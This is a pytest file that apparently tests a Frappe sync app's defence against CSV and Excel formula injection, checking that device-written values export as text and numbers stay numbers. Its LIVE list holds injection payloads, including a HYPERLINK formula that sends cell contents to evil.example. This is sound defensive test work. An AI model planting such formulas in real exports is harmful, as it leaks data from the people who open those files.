"""A formula that a device wrote is a text in every export of the Desk, and a number stays a number."""

import csv
import io
import json

import frappe
import openpyxl
import pytest
import requests
from hypothesis import given
from hypothesis import strategies as st

from hisabi_sync.guards import formulas
from tests.conflicts.conftest import make_person
from tests.support.options import examples
from tests.support.phone import account
from tests.support.users import PASSWORD
from tests.wallet.people import sign_in, sign_up

LIVE = '=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-1-1", "@SUM(A1)", "\t=1+1", "-5 apples"
NUMBERS = "-5", "+5", "-1,234.5", "-1e5", "5"
cells = st.text(st.sampled_from("=+-@\t\r\n\"', ;15ax"), max_size=6)


@pytest.fixture(scope="module")
def pushed(phone_of_module):
	"""Names of accounts that are called as formulas and numbers."""
	items = [account(account_name=name.strip("\t"), color=name) for name in (*LIVE, *NUMBERS)]
	results = phone_of_module.push(*items)
	assert {result["status"] for result in results} == {"accepted"}, results
	frappe.db.rollback()
	return phone_of_module.wallet_id


@pytest.fixture(scope="module")
def phone_of_module(server, site):
	phone = sign_in(server, site, sign_up())
	frappe.db.set_value(
		"Sync Device", {"device_id": phone.device_id}, {"device_name": "-5", "platform": LIVE[0]}
	)
	frappe.db.commit()
	return phone


@pytest.fixture(scope="module")
def desk_user(server, site):
	session = requests.Session()
	session.headers["X-Frappe-Site-Name"] = site
	person = {"usr": make_person("Sync Manager", "System Manager"), "pwd": PASSWORD}
	assert session.post(f"{server.url}/api/method/login", data=person, timeout=60).ok
	return session


def export(desk_user, server, method, **given):
	answer = desk_user.post(f"{server.url}/api/method/{method}", data=given, timeout=120)
	assert answer.status_code == 200, answer.text[:500]
	return answer


def rows(answer, kind):
	"""[[(value, whether the spreadsheet computes it)]] of an export."""
	if kind == "Excel":
		sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
		return [[(cell.value, cell.data_type == "f") for cell in row] for row in sheet.iter_rows()]
	table = csv.reader(io.StringIO(answer.content.decode(), newline=""))
	return [[(value, formulas.is_computed(value)) for value in row] for row in table]


def check(found, wanted):
	cells = [cell for row in found for cell in row]
	assert not [value for value, computed in cells if computed]
	held = {str(value).lstrip("'") for value, _ in cells}
	assert set(wanted) <= held, held


CALLS = {
	"report view": (
		"frappe.desk.reportview.export_query",
		lambda wallet, kind: {
			"doctype": "Hisabi Account",
			"file_format_type": kind,
			"fields": json.dumps(["account_name", "color", "opening_balance"]),
			"filters": json.dumps({"wallet_id": wallet}),
		},
		(LIVE[0], LIVE[2], LIVE[3], "-5"),
	),
	"query report": (
		"frappe.desk.query_report.export_query",
		lambda wallet, kind: {
			"report_name": "Device Activity",
			"file_format_type": kind,
			"filters": "{}",
			"visible_idx": json.dumps(list(range(10_000))),
		},
		(LIVE[0],),
	),
	"data export": (
		"frappe.core.doctype.data_export.exporter.export_data",
		lambda wallet, kind: {
			"doctype": "Hisabi Account",
			"file_type": kind,
			"with_data": 1,
			"select_columns": json.dumps({"Hisabi Account": ["name", "account_name", "color"]}),
			"filters": json.dumps({"wallet_id": wallet}),
		},
		(LIVE[0], LIVE[2], "-5"),
	),
}


@pytest.mark.parametrize("kind", ["Excel", "CSV"])
@pytest.mark.parametrize("call", CALLS)
def test_no_export_has_a_live_formula(call, kind, pushed, desk_user, server):
	method, given, wanted = CALLS[call]
	check(rows(export(desk_user, server, method, **given(pushed, kind)), kind), wanted)


@pytest.mark.parametrize("text", LIVE)
def test_what_is_computed(text):
	assert formulas.is_computed(text)


@pytest.mark.parametrize("text", NUMBERS)
def test_a_number_is_not(text):
	assert not formulas.is_computed(text)


@pytest.mark.parametrize("delimiter", [",", ";"])
@examples(200)
@given(st.lists(st.lists(cells, min_size=1, max_size=4), max_size=4))
def test_nothing_else_of_a_table_changes(delimiter, table):
	written = io.StringIO()
	csv.writer(written, delimiter=delimiter).writerows(table)
	plain = formulas.plain_csv(written.getvalue(), delimiter)
	found = list(csv.reader(io.StringIO(plain, newline=""), delimiter=delimiter))
	assert found == [[f"'{c}" if formulas.is_computed(c) else c for c in row] for row in table]


def test_a_workbook_without_formulas_is_left_alone():
	book, made = openpyxl.Workbook(), io.BytesIO()
	book.active.append(["a", -5])
	book.save(made)
	assert formulas.without_formulas(made.getvalue()) == made.getvalue()
